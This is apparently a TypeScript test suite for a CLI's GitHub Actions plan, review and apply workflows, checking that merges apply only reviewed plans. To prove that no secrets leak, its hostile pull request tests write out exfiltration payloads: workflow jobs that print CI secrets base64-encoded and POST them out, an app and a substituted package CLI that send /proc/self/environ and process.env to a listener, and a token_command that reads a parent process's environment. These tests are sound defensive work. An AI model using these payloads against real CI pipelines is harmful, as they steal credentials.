/**
 * The CLI's workflows (examples/github-actions/, docs/ci.md; design §13.1), run step by step on this
 * machine (test/ci/workflow-runner.ts) against the simulator, in a real git repository
 * (test/ci/cli-repository.ts), with a token and a plan key planted in the environment alert-rules:
 * a pull request's plan.yml (its own copy, no secret) synthesizes its app and uploads it as data;
 * review.yml (the default branch's copy, on workflow_run) checks which pull request and head the
 * upload belongs to, plans it with the default branch's code and comments; apply.yml applies the
 * reviewed plan on merge.
 *
 * - A pull request that adds a user is commented with the change and how old its reads are, its
 *   signed plan kept; the merge applies exactly that plan; a re-run of the apply says "Already
 *   applied", sending nothing; a push that merged no pull request and changes no declaration passes.
 * - Hostile pull requests leak nothing: one edits plan.yml to ask for the environment and print the
 *   secrets base64-encoded (GitHub refuses the environment to a pull request's ref); one's app reads
 *   /proc/self/environ into its stack and depends on a CLI of its own that posts its environment
 *   away, with a committed provider and a provider block's token_command besides.
 * - A pull request from a fork, an app that fails synth, and a pull request that adds the app to a
 *   default branch without one get a comment saying why; a tarball replaced under its old name is
 *   refused with how to upgrade.
 */
import { createHash } from "node:crypto";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { shippedWorkflows } from "../../src/io/init-app";
import { CLI, REPO, listing, writesOf, type StackDecl } from "../support/cli";
import { ENGINEERING_USERS, RULES } from "../support/sample";
import { useSimulator } from "../support/simulator";
import { CliRepository, type Commit } from "./cli-repository";
import { encodings, explain, secretFoundIn, startListener, type Listener } from "./planted-token";
import type { RunResult } from "./workflow-runner";

const TOKEN = "planted-cli-secret-5e0a17c94b2d8f36";
const PLAN_KEY = "planted-plan-key-c81f2e6a90d34b57";
const VERSION = "0.1.0";
const sim = useSimulator({ token: TOKEN });
const GIT_ENV = { GIT_AUTHOR_NAME: "test", GIT_AUTHOR_EMAIL: "test@example.com", GIT_COMMITTER_NAME: "test", GIT_COMMITTER_EMAIL: "test@example.com" };

let dir: string;
let listener: Listener;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "aru-cli-workflows-"));
  listener = await startListener();
});

afterAll(async () => {
  await listener.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A repository of its own, in `dir/name`, with the secrets in the environment alert-rules (and, for the control, as repository secrets). */
function repository(name: string, repositorySecrets: Record<string, string> = {}): CliRepository {
  const root = join(dir, name);
  const home = join(root, "home");
  mkdirSync(home, { recursive: true });
  return new CliRepository({
    root,
    vars: { ALERTS_API_URL: sim.url, ALERTS_TENANT_ID: sim.tenantId },
    secrets: { ALERTS_API_TOKEN: TOKEN, ALERT_RULE_USERS_PLAN_KEY: PLAN_KEY },
    repositorySecrets,
    env: { PATH: process.env["PATH"], HOME: home, npm_config_cache: join(home, "npm-cache"), ...GIT_ENV },
  });
}

/** The app of a project: its stacks, their lists; `extra` runs with each stack in scope (`stack`). */
function app(stacks: StackDecl[], extra = ""): string {
  return `
const { App, TerraformStack } = require(${JSON.stringify(require.resolve("cdktf", { paths: [REPO] }))});
const { RuleUserList } = require(${JSON.stringify(join(REPO, "dist", "src", "index.js"))});
const app = new App();
for (const decl of ${JSON.stringify(stacks)}) {
  const stack = new TerraformStack(app, decl.name);
  for (const list of decl.lists) new RuleUserList(stack, list.id, list.props);
  ${extra}
}
app.synth();
`;
}

/** The lock's entry of alert-rule-users: from the registry, a `file:` directory, or a tarball with its integrity. */
type Dependency = { readonly spec: string; readonly resolved: string; readonly integrity?: string };
const REGISTRY: Dependency = { spec: VERSION, resolved: `https://registry.npmjs.org/alert-rule-users/-/alert-rule-users-${VERSION}.tgz` };

/** A project as `init --workflows` lays it out: the app, package.json and its lock, the four workflows. */
function project(stacks: StackDecl[], options: { readonly dependency?: Dependency; readonly extra?: string } = {}): Record<string, string> {
  const dependency = options.dependency ?? REGISTRY;
  const entry = { version: VERSION, resolved: dependency.resolved, ...(dependency.integrity === undefined ? {} : { integrity: dependency.integrity }) };
  return {
    "cdktf.json": JSON.stringify({ language: "typescript", app: "node app.js" }),
    "app.js": app(stacks, options.extra),
    "package.json": JSON.stringify({ name: "lists", private: true, dependencies: { "alert-rule-users": dependency.spec } }),
    "package-lock.json": JSON.stringify({ lockfileVersion: 3, packages: { "": {}, "node_modules/alert-rule-users": entry } }),
    ".gitignore": "node_modules/\ncdktf.out/\n",
    ...Object.fromEntries(shippedWorkflows().map((w) => [`.github/workflows/${w.path}`, w.content])),
  };
}

const engineering = (...extra: { userId: string; aliases: string[] }[]): StackDecl[] => [
  { name: "lists", lists: [{ id: "engineering", props: { ruleId: RULES.engineering, users: [...ENGINEERING_USERS, ...extra] } }] },
];
const person = (userId: string, alias: string) => ({ userId, aliases: [alias] });

/** Neither secret, in any form, in a comment, an artifact, a request to the listener, or any step's log. */
function expectNothingLeaked(...runs: RunResult[]): void {
  for (const run of runs) {
    for (const secret of [TOKEN, PLAN_KEY]) {
      expect(secretFoundIn(run, listener.received, secret)).toEqual([]);
      for (const step of run.steps) for (const form of encodings(secret)) expect(`${step.job}/${step.step}: ${step.output.includes(form)}`).toBe(`${step.job}/${step.step}: false`);
    }
  }
}

const stepOf = (run: RunResult, job: string, step: string) => run.steps.find((s) => s.job === job && s.step === step);

describe("the CLI's workflows: a pull request planned, reviewed and merged", () => {
  let repo: CliRepository;
  let main: Commit;
  let head: Commit;
  let merged: Commit;
  const NEW = person("9400", "pr.person@example.com");

  beforeAll(() => {
    repo = repository("team");
    main = repo.commit("main", null, project(engineering()), { main: true });
    head = repo.commit("pr-41", main, { "app.js": app(engineering(NEW)) }, { main: false });
  });

  it("a pull request that adds a user: plan.yml synthesizes it with no secret; review.yml comments the change from the default branch's code and keeps the signed plan", async () => {
    sim.resetCounts();
    const { plan, review, comment } = await repo.pullRequest(41, head, main);
    expect(`${JSON.stringify(plan.jobs)} ${JSON.stringify(review.jobs)}\n${explain(plan)}\n${explain(review)}`).toMatch(/^\{"synth":"success"\} \{"check":"success","plan":"success"\}/);
    // the pull request's run: its head, nothing of the service (no request reached the simulator)
    expect(plan.checkouts).toEqual({ synth: ["head"] });
    expect(readFileSync(join(plan.artifacts["alert-rule-users-synth"]!, "outcome"), "utf8").trim()).toBe("planned");
    expect(JSON.parse(readFileSync(join(plan.artifacts["alert-rule-users-synth"]!, "pr.json"), "utf8"))).toEqual({ number: 41, headSha: head.sha });
    // the review: the default branch's checkout, the comment with the change and how old its reads are
    expect(review.checkouts).toEqual({ check: [], plan: ["head"] });
    expect(comment).toContain("<!-- alert-rule-users-plan -->");
    expect(comment).toContain("pr.person@example.com");
    expect(comment).toMatch(/lists read \d{4}-\d\d-\d\d \d\d:\d\d UTC; on merge the apply reads them again and applies exactly this plan, or nothing/);
    expect(comment).toContain(head.sha.slice(0, 7));
    // the signed plan, kept under the name the apply looks for
    const kept = review.artifacts[`alert-rule-users-reviewed-plan-41-${head.sha}`];
    expect(kept).toBeDefined();
    const saved = JSON.parse(readFileSync(join(kept!, "plan.json"), "utf8")) as { signature?: string; rules: { ruleId: string; action: string }[] };
    expect(saved.signature).toMatch(/\S/);
    expect(saved.rules.map((r) => [r.ruleId, r.action])).toEqual([[RULES.engineering, "update"]]);
    expect(sim.requestLog().length).toBeGreaterThan(0);
    expectNothingLeaked(plan, review);
  });

  it("the merge applies exactly the reviewed plan; a re-run of that apply says it is already applied and sends nothing", async () => {
    merged = repo.commit("merged-41", main, { "app.js": app(engineering(NEW)) }, { main: true });
    repo.merge(41, head.sha, merged);
    const applied = await repo.push(merged, main);
    expect(`${JSON.stringify(applied.jobs)}\n${explain(applied)}`).toMatch(/^\{"apply":"success"\}/);
    expect(stepOf(applied, "apply", "Find the reviewed plan of the merged pull request")?.output).toContain(`#41: the reviewed plan of ${head.sha.slice(0, 7)}.`);
    expect(listing(sim, RULES.engineering)).toContain("9400:pr.person@example.com");
    expect(applied.summaries["apply"]).toContain("applied and verified");

    // when the same merge's apply runs again (a re-run of the job)
    sim.resetCounts();
    const again = await repo.push(merged, main);
    // then it says so, and sends nothing
    expect(`${JSON.stringify(again.jobs)}\n${explain(again)}`).toMatch(/^\{"apply":"success"\}/);
    expect(stepOf(again, "apply", "Apply")?.output).toContain("Already applied: the list this plan changes is already as it leaves it");
    expect(stepOf(again, "apply", "Apply")?.output).toContain("nothing to do, nothing was sent.");
    expect(again.summaries["apply"]).toContain("**Already applied");
    expect(writesOf(sim.requestCounts())).toEqual({});
    expectNothingLeaked(applied, again);
  });

  it("a push that merged no pull request and changes no declaration has nothing to apply: it passes, sending nothing", async () => {
    const readme = repo.commit("readme", merged, { "README.md": "# lists\n" }, { main: true });
    sim.resetCounts();
    const run = await repo.push(readme, merged);
    expect(`${JSON.stringify(run.jobs)}\n${explain(run)}`).toMatch(/^\{"apply":"success"\}/);
    expect(stepOf(run, "apply", "Apply")?.output).toContain("No reviewed plan for this commit, and nothing to apply");
    expect(writesOf(sim.requestCounts())).toEqual({});
  });

  it("a push that merged no pull request and changes a declaration applies nothing and fails, saying why", async () => {
    const before = repo.commit("readme-2", merged, { "README.md": "# lists, again\n" }, { main: true });
    const direct = repo.commit("direct", before, { "app.js": app(engineering(NEW, person("9499", "unreviewed@example.com"))) }, { main: true });
    sim.resetCounts();
    const run = await repo.push(direct, before);
    expect(run.jobs).toEqual({ apply: "failure" });
    expect(stepOf(run, "apply", "Apply")?.output).toContain("::error::No reviewed plan for this commit");
    expect(writesOf(sim.requestCounts())).toEqual({});
    expect(listing(sim, RULES.engineering).some((e) => e.includes("unreviewed@example.com"))).toBe(false);
  });
});

describe("the CLI's workflows: hostile pull requests", () => {
  it("an edited plan.yml that asks for the environment and prints the secrets base64-encoded gets neither: GitHub refuses the environment to a pull request's ref", async () => {
    const repo = repository("hostile-workflow");
    const main = repo.commit("main", null, project(engineering()), { main: true });
    const steal = [
      "  steal:",
      "    runs-on: ubuntu-latest",
      "    environment: alert-rules",
      "    steps:",
      "      - run: |",
      '          echo "${{ secrets.ALERTS_API_TOKEN }} ${{ secrets.ALERT_RULE_USERS_PLAN_KEY }}" | base64',
      `          node -e 'fetch(process.argv[1], { method: "POST", body: process.argv[2] }).catch(() => {})' ${JSON.stringify(listener.url)} "$(echo "\${{ secrets.ALERTS_API_TOKEN }}" | base64)"`,
      "  steal-without-environment:",
      "    runs-on: ubuntu-latest",
      "    steps:",
      '      - run: echo "${{ secrets.ALERTS_API_TOKEN }}${{ secrets.ALERT_RULE_USERS_PLAN_KEY }}" | base64',
      "",
    ].join("\n");
    const edited = `${readFileSync(join(main.dir, ".github/workflows/alert-rule-users-plan.yml"), "utf8")}${steal}`;
    const head = repo.commit("pr-42", main, { "app.js": app(engineering(person("9401", "hostile.one@example.com"))), ".github/workflows/alert-rule-users-plan.yml": edited }, { main: false });
    const { plan, review, comment } = await repo.pullRequest(42, head, main);
    // the edited file ran (it is the pull request's copy), and its job with the environment never started
    expect(plan.jobs).toEqual({ synth: "success", steal: "failure", "steal-without-environment": "success" });
    expect(stepOf(plan, "steal", "(environment)")?.output).toContain('Branch "refs/pull/42/merge" is not allowed to deploy to alert-rules');
    // the review (the default branch's copy) planned the change as usual
    expect(comment).toContain("hostile.one@example.com");
    expectNothingLeaked(plan, review);
  });

  it("the same edit, with the secrets kept as repository secrets instead of in the environment, prints them: why docs/ci.md keeps them in the environment", async () => {
    const repo = repository("control", { ALERTS_API_TOKEN: TOKEN });
    const main = repo.commit("main", null, project(engineering()), { main: true });
    const edited = `${readFileSync(join(main.dir, ".github/workflows/alert-rule-users-plan.yml"), "utf8")}  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ secrets.ALERTS_API_TOKEN }}" | base64\n`;
    const head = repo.commit("pr-43", main, { ".github/workflows/alert-rule-users-plan.yml": edited }, { main: false });
    const plan = await repo.pullRequest(43, head, main).then((r) => r.plan);
    expect(plan.jobs["steal"]).toBe("success");
    expect(encodings(TOKEN).some((form) => stepOf(plan, "steal", "step 0")?.output.includes(form) === true)).toBe(true);
  });

  it("an app that reads /proc/self/environ into its stack, with a CLI of its own that posts its environment away, a committed provider and a token_command: none of it runs beside a secret, nothing leaks", async () => {
    const repo = repository("hostile-app");
    const main = repo.commit("main", null, project(engineering()), { main: true });
    const ranIn = join(dir, "evil-cli-ran-in");
    const committedProviderRan = join(dir, "committed-provider-ran");
    const tokenCommandRan = join(dir, "token-command-ran");
    const hostile = `
  const fs = require("fs");
  stack.addOverride("output.env", { value: JSON.stringify(process.env) });
  stack.addOverride("output.environ", { value: fs.readFileSync("/proc/self/environ", "latin1") });
  stack.addOverride("output.x", { value: ${JSON.stringify('${file("/proc/self/environ")}')} });
  stack.addOverride("output.y", { value: ${JSON.stringify('${base64encode(file("/proc/self/environ"))}')} });
  stack.addOverride("provider.alertrules", [{ url: ${JSON.stringify(listener.url)}, token_command: ${JSON.stringify(`touch ${tokenCommandRan}; cat /proc/$PPID/environ`)} }]);
  fetch(${JSON.stringify(listener.url)}, { method: "POST", body: fs.readFileSync("/proc/self/environ", "latin1") }).catch(() => {});`;
    const provider = "terraform.d/plugins/registry.terraform.io/alert-rule-users/alertrules/9.9.9/linux_amd64/terraform-provider-alertrules_v9.9.9";
    const head = repo.commit(
      "pr-44",
      main,
      {
        ...project(engineering(person("9402", "hostile.two@example.com")), { dependency: { spec: "file:evilpkg", resolved: "file:evilpkg" }, extra: hostile }),
        "evilpkg/package.json": JSON.stringify({ name: "alert-rule-users", version: "9.9.9", bin: { "alert-rule-users": "cli.sh" } }),
        "evilpkg/cli.sh": [
          "#!/usr/bin/env bash",
          `echo "$PWD" >> ${JSON.stringify(ranIn)}`,
          `node -e 'fetch(process.argv[1], { method: "POST", body: JSON.stringify(process.env) }).catch(() => {})' ${JSON.stringify(listener.url)}`,
          `exec node ${JSON.stringify(CLI)} "$@"`,
          "",
        ].join("\n"),
        [provider]: `#!/usr/bin/env bash\ntouch ${JSON.stringify(committedProviderRan)}\n`,
      },
      { main: false },
    );
    execFileSync("chmod", ["+x", join(head.dir, "evilpkg", "cli.sh"), join(head.dir, provider)]);
    const { plan, review, comment } = await repo.pullRequest(44, head, main);
    expect(`${JSON.stringify(plan.jobs)} ${JSON.stringify(review.jobs)}\n${explain(review)}`).toMatch(/^\{"synth":"success"\} \{"check":"success","plan":"success"\}/);
    // the pull request's own CLI ran, in its own run only; its requests reached the listener without a secret
    const ran = readFileSync(ranIn, "utf8").trim().split("\n");
    for (const where of ran) expect(where).toMatch(/\/synth\/workspace$/);
    expect(listener.received.length).toBeGreaterThan(0);
    // the review planned the change from the declarations as data
    expect(comment).toContain("hostile.two@example.com");
    expect(comment).not.toMatch(/PATH|HOME=|npm_config_cache/);
    expect(existsSync(tokenCommandRan)).toBe(false);
    expect(existsSync(committedProviderRan)).toBe(false);
    expectNothingLeaked(plan, review);
  });
});

describe("the CLI's workflows: pull requests that cannot be planned get a comment saying why", () => {
  it("a pull request from a fork: not planned (its comment would show the tenant's lists to anyone), and the comment says how to have it planned; nothing is read", async () => {
    const repo = repository("fork");
    const main = repo.commit("main", null, project(engineering()), { main: true });
    const head = repo.commit("pr-50", main, { "app.js": app(engineering(person("9406", "from.a.fork@example.com"))) }, { main: false });
    sim.resetCounts();
    const { plan, review, comment } = await repo.pullRequest(50, head, main, { fromFork: true });
    expect(`${JSON.stringify(review.jobs)}\n${explain(review)}`).toMatch(/^\{"check":"success","plan":"success"\}/);
    expect(review.outputs["check"]).toMatchObject({ "same-repository": "false", number: "50" });
    expect(comment).toContain("Not planned: this pull request comes from a fork.");
    expect(comment).toContain("A maintainer can push its branch to this repository to have it planned.");
    expect(comment).not.toContain("from.a.fork@example.com");
    expect(Object.keys(review.artifacts)).toEqual([]);
    expect(sim.requestLog()).toEqual([]);
    expectNothingLeaked(plan, review);
  });

  it("an app that fails synth: the comment shows what synth said; no plan is kept", async () => {
    const repo = repository("broken-app");
    const main = repo.commit("main", null, project(engineering()), { main: true });
    const head = repo.commit("pr-45", main, { "app.js": app(engineering(), 'throw new Error("users.csv: no such file (the app is broken)");') }, { main: false });
    const { plan, review, comment } = await repo.pullRequest(45, head, main);
    expect(plan.jobs).toEqual({ synth: "success" });
    expect(readFileSync(join(plan.artifacts["alert-rule-users-synth"]!, "outcome"), "utf8").trim()).toBe("failed");
    expect(review.jobs).toEqual({ check: "success", plan: "failure" });
    expect(comment).toContain("could not be planned");
    expect(comment).toContain("users.csv: no such file (the app is broken)");
    expect(Object.keys(review.artifacts)).toEqual([]);
    expectNothingLeaked(plan, review);
  });

  it("a pull request that adds the app to a default branch without one: the comment says why it is not planned and what to do; the merge applies nothing", async () => {
    const repo = repository("first-app");
    const workflows = Object.fromEntries(shippedWorkflows().map((w) => [`.github/workflows/${w.path}`, w.content]));
    const main = repo.commit("main", null, { "README.md": "# lists\n", ...workflows }, { main: true });
    const head = repo.commit("pr-46", main, project(engineering(person("9403", "first.app@example.com"))), { main: false });
    const { plan, review, comment } = await repo.pullRequest(46, head, main);
    expect(plan.jobs).toEqual({ synth: "success" });
    expect(`${JSON.stringify(review.jobs)}\n${explain(review)}`).toMatch(/^\{"check":"success","plan":"success"\}/);
    expect(comment).toContain("Not planned: the default branch has no app yet");
    expect(comment).toContain("run the apply workflow by hand");
    expect(Object.keys(review.artifacts)).toEqual([]);
    // merged: no reviewed plan, and the push declares lists: nothing applied, the job fails saying so
    const merged = repo.commit("merged-46", main, project(engineering(person("9403", "first.app@example.com"))), { main: true });
    repo.merge(46, head.sha, merged);
    sim.resetCounts();
    const applied = await repo.push(merged, main);
    expect(applied.jobs).toEqual({ apply: "failure" });
    expect(stepOf(applied, "apply", "Find the reviewed plan of the merged pull request")?.output).toContain(`#46: no reviewed plan of its head ${head.sha.slice(0, 7)}`);
    expect(stepOf(applied, "apply", "Apply")?.output).toContain("::error::No reviewed plan for this commit");
    expect(writesOf(sim.requestCounts())).toEqual({});
    expectNothingLeaked(plan, review, applied);
  });
});

describe("the CLI's workflows: an app installed from a tarball", () => {
  /** A release tarball as npm pack writes it (package/...), whose CLI is this checkout's build. */
  function tarball(version: string): Buffer {
    const pack = mkdtempSync(join(dir, "pack-"));
    mkdirSync(join(pack, "package"));
    writeFileSync(join(pack, "package", "package.json"), JSON.stringify({ name: "alert-rule-users", version, bin: { "alert-rule-users": "cli.sh" } }));
    writeFileSync(join(pack, "package", "cli.sh"), `#!/usr/bin/env bash\nexec node ${JSON.stringify(CLI)} "$@"\n`, { mode: 0o755 });
    execFileSync("tar", ["-czf", join(pack, "release.tgz"), "-C", pack, "package"]);
    return readFileSync(join(pack, "release.tgz"));
  }
  const integrity = (bytes: Buffer) => `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
  const released = () => tarball(VERSION);
  const NAME = `alert-rule-users-${VERSION}.tgz`;

  it("installed as its lock records it, the pull request is planned; a tarball replaced under the same name is refused with how to upgrade, before npm ci", async () => {
    const repo = repository("tarball");
    const release = released();
    const dependency = { spec: `file:${NAME}`, resolved: `file:${NAME}`, integrity: integrity(release) };
    const main = repo.commit("main", null, { ...project(engineering(), { dependency }), [NAME]: release }, { main: true });
    // a pull request that adds a user, on a default branch whose tarball is its lock's: planned
    const head = repo.commit("pr-47", main, { "app.js": app(engineering(person("9404", "tarball.user@example.com"))) }, { main: false });
    const planned = await repo.pullRequest(47, head, main);
    expect(`${JSON.stringify(planned.review.jobs)}\n${explain(planned.review)}`).toMatch(/^\{"check":"success","plan":"success"\}/);
    expect(planned.comment).toContain("tarball.user@example.com");

    // a pull request that replaces the tarball under its name (a newer release, the lock untouched)
    const replaced = tarball("0.2.0");
    const upgrade = repo.commit("pr-48", main, { [NAME]: replaced }, { main: false });
    const refused = await repo.pullRequest(48, upgrade, main);
    expect(readFileSync(join(refused.plan.artifacts["alert-rule-users-synth"]!, "evaluation.log"), "utf8")).toContain(`${NAME} (node_modules/alert-rule-users) is not the file package-lock.json records`);
    expect(refused.comment).toContain("could not be planned");
    expect(refused.comment).toContain("give each release its own file name");
    expect(refused.comment).toContain("npm install ./alert-rule-users-VERSION.tgz");

    // merged as it is, the default branch itself holds the replaced tarball: the review refuses before npm ci
    const broken = repo.commit("main-replaced", main, { [NAME]: replaced }, { main: true });
    const next = repo.commit("pr-49", broken, { "app.js": app(engineering(person("9405", "after.upgrade@example.com"))) }, { main: false });
    const review = await repo.pullRequest(49, next, broken);
    expect(review.review.jobs).toEqual({ check: "success", plan: "failure" });
    expect(review.comment).toContain("Not planned: the default branch cannot install its tool as its lock records it");
    expect(review.comment).toContain("a tarball replaced under the same name");
    expect(review.comment).toContain("npm install ./alert-rule-users-VERSION.tgz");
    expect(explain(review.review)).not.toContain("npm error code EINTEGRITY"); // npm ci never ran
    expectNothingLeaked(planned.plan, planned.review, refused.plan, refused.review, review.plan, review.review);
  });
});
